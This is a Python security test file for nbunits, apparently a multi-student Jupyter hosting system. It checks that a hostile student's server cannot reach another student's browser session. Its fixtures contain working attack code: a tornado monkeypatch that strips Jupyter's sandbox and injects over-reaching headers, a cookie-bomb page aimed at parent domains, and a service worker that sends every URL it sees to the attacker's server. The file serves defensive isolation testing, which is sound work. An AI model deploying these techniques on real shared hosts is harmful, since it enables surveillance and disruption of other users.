"""A student's page cannot act in another student's browser session (docs/security.md,
"A student's page").

Student A controls what their own server answers: their code runs in it, and a
`usercustomize.py` in their persistent home (`~/.local`) runs in their Jupyter at its
next start. Here A's server adds headers whose effect reaches beyond its own path
(`Service-Worker-Allowed: /` among them) and serves, without Jupyter's sandbox, a
page that sets 40 cookies of 4 KB for "/" on its host and on every parent domain
that takes them, registers a service worker for "/" that reports every URL it sees
to A's server, and marks the origin's storage. The victim opens A's page once, then
their own notebook (student B) in the same browser: B's notebook loads and a cell
runs, and A's server learnt nothing of B.

Twice: with per-student origins (`nbunits install --student-domain`, the
recommended deployment; a box of its own, since the session's box serves one
origin), and on one origin (the session's box), where what holds is what nginx
strips and accepts (the storage of the origin stays shared: asserted too).
"""

from __future__ import annotations

import asyncio
import os
import secrets
import shutil
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import pytest

from nbunits.core.names import user_for
from testbed.browser import Opened, execute, open_exercise, start_kernel
from testbed.harness import SystemdBox
from testbed.sites import CHROMIUM, launch_chromium

from .conftest import (
    LIFTED_CAPS,
    SERVER,
    SHARED_IN_BOX,
    Nbunits,
    box_folders,
    deploy,
    use_checkout,
)
from .test_security import gixy_finds_nothing

STUDENT_DOMAIN = "nb.mooc.test"
NOTEBOOK = "welcome.ipynb"
WORK = "/home/student/work"  # the course's folder in a student's container

# What A's server says on top of Jupyter's answers (the usercustomize.py below):
# on every answer, a service worker's scope and a cookie for "/"; on one file, every
# other header nginx must not let through (docs/security.md, "A student's page").
ALWAYS = {"Service-Worker-Allowed": "/", "Set-Cookie": "nbunits_a=1; Path=/; Max-Age=600"}
BEYOND = {
    "Clear-Site-Data": '"storage"', "Strict-Transport-Security": "max-age=0",
    "NEL": '{"report_to": "a", "max_age": 600, "include_subdomains": true}',
    "Report-To": '{"group": "a", "max_age": 600, "endpoints": [{"url": "https://x.test/"}]}',
    "Reporting-Endpoints": 'a="https://x.test/"', "Alt-Svc": 'h2=":8443"',
    "Accept-CH": "Sec-CH-UA-Model", "Critical-CH": "Sec-CH-UA-Model",
    "Origin-Agent-Cluster": "?0", "Set-Login": "logged-in", "Expect-CT": "max-age=0",
    "Public-Key-Pins": 'pin-sha256="x"; max-age=0',
    "Public-Key-Pins-Report-Only": 'pin-sha256="x"; max-age=0'}
ALL_HEADERS = "all-headers.txt"

USERCUSTOMIZE = f"""\
# Student A's own code, run by every Python of theirs, their Jupyter included.
import tornado.web

_flush = tornado.web.RequestHandler.flush


def flush(self, include_footers=False):
    if not self._headers_written:
        csp = self._headers.get("Content-Security-Policy")
        if csp:  # served without Jupyter's sandbox: A's page runs in the origin
            self._headers["Content-Security-Policy"] = csp.replace("; sandbox allow-scripts", "")
        for name, value in {ALWAYS!r}.items():
            self.add_header(name, value)
        if self.request.path.endswith("/{ALL_HEADERS}"):
            for name, value in {BEYOND!r}.items():
                self.add_header(name, value)
    return _flush(self, include_footers)


tornado.web.RequestHandler.flush = flush
"""

# A's page: a cookie bomb for "/" on its host and its parent domains, a service
# worker for "/", a mark in the origin's storage; what it managed, in window.result.
PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>A's page</title></head>
<body><script>
(async () => {
  const out = {};
  const labels = location.hostname.split(".");
  const domains = [""];
  for (let i = 1; i < labels.length - 1; i++) domains.push(labels.slice(i).join("."));
  for (const domain of domains)
    for (let i = 0; i < 40; i++)
      document.cookie = `bomb${domain.length}_${i}=${"x".repeat(4000)}; path=/` +
        (domain ? `; domain=${domain}` : "");
  out.cookies = document.cookie.length;
  try {
    const reg = await navigator.serviceWorker.register("sw.js", {scope: "/"});
    await navigator.serviceWorker.ready;
    out.sw = "registered for " + reg.scope;
  } catch (error) {
    out.sw = "refused: " + error.message;
  }
  localStorage.setItem("nbunits-a", "A was here");
  window.result = out;
})();
</script></body></html>
"""

# A's service worker: every URL it sees, saved into A's own folder (spy/).
WORKER = """
const spy = new URL("../api/contents/spy/", self.location).href;
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const url = event.request.url;
  if (url.startsWith(spy)) return;
  const name = Date.now() + "-" + Math.random().toString(36).slice(2) + ".txt";
  fetch(spy + name, {method: "PUT", headers: {"Content-Type": "application/json"},
                     body: JSON.stringify({type: "file", format: "text", content: url})});
});
"""

PLANT = f"""
import pathlib, site
folder = pathlib.Path(site.getusersitepackages())
folder.mkdir(parents=True, exist_ok=True)
(folder / "usercustomize.py").write_text({USERCUSTOMIZE!r})
work = pathlib.Path({WORK!r})
(work / "page.html").write_text({PAGE!r})
(work / "sw.js").write_text({WORKER!r})
(work / "spy").mkdir(exist_ok=True)
(work / {ALL_HEADERS!r}).write_text("A")
str(folder)
"""


@dataclass(frozen=True)
class Hostile:
    """Student A, whose server now says what it likes."""

    course: str
    opened: Opened
    origin: str  # scheme://host of A's server

    @property
    def page(self) -> str:
        """A's page, served by A's Jupyter from A's folder (its sw.js beside it)."""
        return f"{self.origin}{self.opened.prefix}files/page.html"


def make_hostile(nb: Nbunits, course: str) -> Hostile:
    """A student who plants usercustomize.py and their page, then restarts their
    server (stopping it: the next request starts it again, as after a stop)."""
    async def plant() -> Opened:
        async with nb.site.session() as session:
            opened = await open_exercise(session, course, NOTEBOOK, secrets.token_hex(16))
            kernel = await start_kernel(session, opened)
            assert ".local/lib/python" in await execute(session, opened, kernel, PLANT)
            return opened

    opened = asyncio.run(plant())
    nb.box.systemctl("stop", f"nbunits-{course}-proxy@{opened.user}.service",
                     f"nbunits-{course}@{opened.user}.service")
    return Hostile(course, opened, opened.base or nb.site.base)


def said_by_jupyter(nb: Nbunits, hostile: Hostile, path: str, host: str) -> str:
    """The headers A's Jupyter itself answers `path` with (its socket, behind nginx).
    The capability goes in a curl config file: a command line shows in the journal."""
    opened = hostile.opened
    config = f"{SHARED_IN_BOX}/curl-{opened.user}.conf"
    nb.box.write_file(config, "\n".join([
        f'url = "http://x{opened.prefix}{path}"', f'header = "Host: {host}"',
        f'header = "Authorization: token {opened.token}"',
        f'unix-socket = "/run/nbunits/front/{hostile.course}/{opened.user}.sock"',
        'output = "/dev/null"', 'dump-header = "-"', "silent", "max-time = 120"]) + "\n",
        mode=0o600)
    return nb.box.run("curl", "-K", config).stdout


def spied(nb: Nbunits, hostile: Hostile) -> list[str]:
    """Every URL A's service worker reported to A's server."""
    async def read() -> list[str]:
        async with nb.site.session() as session:
            headers = hostile.opened.headers
            async with session.get(hostile.opened.url("api/contents/spy"),
                                   headers=headers) as resp:
                assert resp.status == 200, await resp.text()
                listing = await resp.json()
            seen = []
            for entry in listing["content"]:
                async with session.get(hostile.opened.url(f"api/contents/{entry['path']}"),
                                       headers=headers) as resp:
                    seen.append(str((await resp.json())["content"]))
            return seen
    return asyncio.run(read())


@dataclass(frozen=True)
class Visit:
    """What the victim's browser saw: A's page's results, then B's notebook."""

    page: dict
    notebook_url: str
    storage_mark: str | None  # A's mark, as B's page reads the storage of its origin
    cookies: int  # the cookies B's page's origin carries (document.cookie)


def visit(nb: Nbunits, hostile: Hostile, victim_link: str, tmp_path: Path) -> Visit:
    """The victim opens A's page once, then their own notebook in the same browser,
    and runs a cell there."""
    from playwright.sync_api import sync_playwright

    ca = nb.site.ca
    assert ca is not None
    with sync_playwright() as playwright:
        browser = launch_chromium(playwright, nb.site.names, ca.cert, tmp_path / "home")
        try:
            page = browser.new_context(viewport={"width": 1280, "height": 960}).new_page()
            page.goto(hostile.page)
            page.wait_for_function("window.result !== undefined", timeout=120_000)
            result = page.evaluate("window.result")
            page.goto(victim_link)
            run_a_cell(page)
            mark = page.evaluate("localStorage.getItem('nbunits-a')")
            cookies = page.evaluate("document.cookie.length")
            return Visit(result, page.url, mark, cookies)
        except Exception:
            page.screenshot(path=str(tmp_path / "origins.png"))
            raise
        finally:
            browser.close()


def run_a_cell(page: Any) -> None:
    """Run the notebook's `6 * 7` cell as a student does, once more if the first
    Shift+Enter came before the kernel was there (a loaded machine; as
    test_access.py), never more than 3 times. There too, Notebook 7 may ask which
    kernel to start: a student picks the one it offers."""
    idle = page.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]')
    choose = page.locator(".jp-Dialog .jp-mod-accept")
    output = page.locator(".jp-OutputArea-output").filter(has_text="42")
    for attempt in range(3):
        idle.or_(choose).first.wait_for(timeout=120_000)
        if choose.count():
            choose.first.click()
            continue
        page.locator(".jp-CodeCell").nth(1).locator(".cm-content").click()
        page.keyboard.press("Shift+Enter")
        try:
            output.first.wait_for(timeout=40_000)
            return
        except Exception:
            if attempt == 2:
                raise


def course_link(nb: Nbunits, course: str, student: str) -> str:
    return nb.site.url(f"/ipythonExercice/{course}/{NOTEBOOK}/{student}")


# --- per-student origins: a box of their own ---------------------------------------

@pytest.fixture(scope="module")
def split() -> Iterator[Nbunits]:
    """nbunits installed with --student-domain: each student on <user>.nb.mooc.test."""
    work = Path(f"/var/tmp/nbunits-origins-{os.getpid()}")
    home, shared, binds = box_folders(work)
    with SystemdBox(f"nbunits-origins-{os.getpid()}", binds=binds, private_network=True) as box:
        box.boot()
        use_checkout(box)
        box.write_file("/etc/nbunits/nbunits.toml", LIFTED_CAPS)
        site = deploy(box, shared, student_domain=STUDENT_DOMAIN)
        nb = Nbunits(box, home, shared, site)
        nb.nbunits("course", "add", "demo", "--dir", "/opt/nbunits/src/examples/demo",
                   "--legacy", "open")
        yield nb
    shutil.rmtree(work, ignore_errors=True)


async def _answer(session: aiohttp.ClientSession, method: str, url: str,
                  **options: object) -> tuple[int, str]:
    async with session.request(method, url, allow_redirects=False, **options) as resp:
        await resp.read()
        return resp.status, resp.headers.get("Location", "")


def test_each_student_s_server_is_on_their_own_origin_and_nowhere_else(split: Nbunits) -> None:
    student, other = secrets.token_hex(16), secrets.token_hex(16)

    async def scenario() -> None:
        async with split.site.session() as session:
            opened = await open_exercise(session, "demo", NOTEBOOK, student)
            own, elsewhere = opened.base, f"https://{user_for(other)}.{STUDENT_DOMAIN}"
            assert own == f"https://{opened.user}.{STUDENT_DOMAIN}" and opened.page_status == 200
            kernel = await start_kernel(session, opened)
            assert await execute(session, opened, kernel, "6 * 7") == "42"
            await open_exercise(session, "demo", NOTEBOOK, other)
            status = f"{opened.prefix}api/status"
            # An old link on the server's name goes to the student's origin...
            assert await _answer(session, "GET", status) == (307, own + status)
            # ... and their server answers nowhere else: not on another student's host.
            assert (await _answer(session, "GET", elsewhere + status, headers=opened.headers)
                    )[0] == 404
            # Their actions: on their own origin only.
            info = f"/_nbunits/student/demo/{opened.user}/{opened.token}/info"
            body = {"json": {"notebook": NOTEBOOK}}
            assert (await _answer(session, "POST", own + info, **body))[0] == 200
            assert (await _answer(session, "POST", elsewhere + info, **body))[0] == 404
            assert (await _answer(session, "POST", info, **body))[0] == 404
            # A student's origin serves nothing but their server: no launch, no share.
            for path in (f"/ipythonExercice/demo/{NOTEBOOK}/{student}", "/shared/" + "a" * 32,
                         "/lti/1.1/launch"):
                assert (await _answer(session, "GET", own + path))[0] == 404, path
            # Their stopped server wakes there (nginx's fallback to the dispatcher).
            split.box.systemctl("stop", f"nbunits-demo@{opened.user}.socket",
                                f"nbunits-demo@{opened.user}.service")
            woke = await _answer(session, "GET", own + status)
            assert woke in ((307, status), (503, "")), woke
    asyncio.run(scenario())


def test_per_student_origins_pass_nginx_t_and_gixy(split: Nbunits) -> None:
    split.box.run("nginx", "-t", "-q")
    assert split.box.read_file("/etc/nginx/sites-enabled/nbunits-students")
    gixy_finds_nothing(split.box)


def test_a_student_s_jupyter_answers_only_its_own_host(split: Nbunits) -> None:
    """Behind nginx's check, Jupyter's own (local_hostnames, per start)."""
    opened = asyncio.run(_opened(split, secrets.token_hex(16)))
    hostile = Hostile("demo", opened, opened.base)
    own = f"{hostile.opened.user}.{STUDENT_DOMAIN}"
    for host, status in ((own, 200), (SERVER, 403), (f"{user_for('x')}.{STUDENT_DOMAIN}", 403)):
        said = said_by_jupyter(split, hostile, "api/status", host)
        assert said.split()[1] == str(status), (host, said)


async def _opened(nb: Nbunits, student: str) -> Opened:
    async with nb.site.session() as session:
        return await open_exercise(session, "demo", NOTEBOOK, student)


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium (scripts/setup)")
def test_a_student_s_page_cannot_act_in_another_s_session_on_their_own_origins(
        split: Nbunits, tmp_path: Path) -> None:
    hostile = make_hostile(split, "demo")
    victim = secrets.token_hex(16)
    seen = visit(split, hostile, course_link(split, "demo", victim), tmp_path)
    assert seen.page["cookies"] > 40 * 4000, seen.page  # the bomb went off
    assert seen.storage_mark is None  # A's origin's storage is A's alone
    assert urlsplit(seen.notebook_url).hostname == f"{user_for(victim)}.{STUDENT_DOMAIN}"
    reported = spied(split, hostile)
    assert not [url for url in reported if user_for(victim) in url or victim in url], reported


def test_install_checks_the_student_domain_and_can_go_back_to_one_origin(split: Nbunits) -> None:
    """Last of the box's tests: it changes the box's [server] settings and back."""
    site, toml = "/etc/nginx/sites-enabled/nbunits-students", "/etc/nbunits/nbunits.toml"
    before = split.box.read_file(toml)
    for domain, said in (("nb.mooc.test;", "student domain 'nb.mooc.test;'"),
                         ("other.mooc.test", f"is not valid for nb{'a' * 16}.other.mooc.test")):
        result = split.nbunits("install", "--student-domain", domain, check=False)
        assert result.returncode != 0 and said in result.stderr, result.stderr
        assert split.box.read_file(toml) == before  # nothing changed
    listen = ["--listen", "80", "--tls-listen", "443"]
    split.nbunits("install", "--student-domain", "", *listen)
    split.box.run("nginx", "-t", "-q")
    assert split.box.run("test", "-e", site, check=False).returncode == 1
    location = asyncio.run(_location(split))
    assert location.startswith("/nb/demo/"), location  # the server's name again
    split.nbunits("install", "--student-domain", STUDENT_DOMAIN, *listen)
    assert split.box.read_file(site) and split.box.read_file(toml) == before
    assert asyncio.run(_location(split)).startswith("https://nb")


async def _location(nb: Nbunits) -> str:
    async with nb.site.session() as session:
        async with session.get(f"/ipythonExercice/demo/{NOTEBOOK}/{secrets.token_hex(16)}",
                               allow_redirects=False) as resp:
            assert resp.status == 302, await resp.text()
            return resp.headers["Location"]


# --- one origin: the session's box -------------------------------------------------

@pytest.fixture(scope="module")
def hostile(nb: Nbunits) -> Hostile:
    nb.add_course("origins")
    return make_hostile(nb, "origins")


def test_no_header_of_a_student_s_server_reaches_beyond_its_path(
        nb: Nbunits, hostile: Hostile) -> None:
    said = said_by_jupyter(nb, hostile, f"files/{ALL_HEADERS}", SERVER).lower()
    assert said.startswith("http/1.1 200"), said
    for name in (*ALWAYS, *BEYOND):
        assert f"\n{name.lower()}:" in said, f"A's server does not say {name}: the test is void"

    async def through_nginx() -> Mapping[str, str]:
        async with nb.site.session() as session:
            async with session.get(hostile.opened.url(f"files/{ALL_HEADERS}")) as resp:
                assert resp.status == 200
                return resp.headers
    headers = asyncio.run(through_nginx())
    passed = [name for name in (*ALWAYS, *BEYOND) if name in headers and not (
        name == "Strict-Transport-Security" and headers[name] == "max-age=31536000")]
    assert not passed, f"nginx lets these through: {passed}"


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium (scripts/setup)")
def test_a_student_s_page_cannot_act_in_another_s_session_on_one_origin(
        nb: Nbunits, hostile: Hostile, tmp_path: Path) -> None:
    victim = secrets.token_hex(16)
    seen = visit(nb, hostile, course_link(nb, "origins", victim), tmp_path)
    # The bomb went off, and the victim's requests carried it (their notebook ran).
    assert seen.page["cookies"] > 40 * 4000 and seen.cookies > 40 * 4000, seen
    assert urlsplit(seen.notebook_url).hostname == SERVER
    reported = spied(nb, hostile)
    assert not [url for url in reported if user_for(victim) in url or victim in url], reported
    assert seen.page["sw"].startswith("refused:"), seen.page  # no scope beyond A's path
    # What one origin cannot wall off: its storage (docs/security.md, "A student's page").
    assert seen.storage_mark == "A was here"
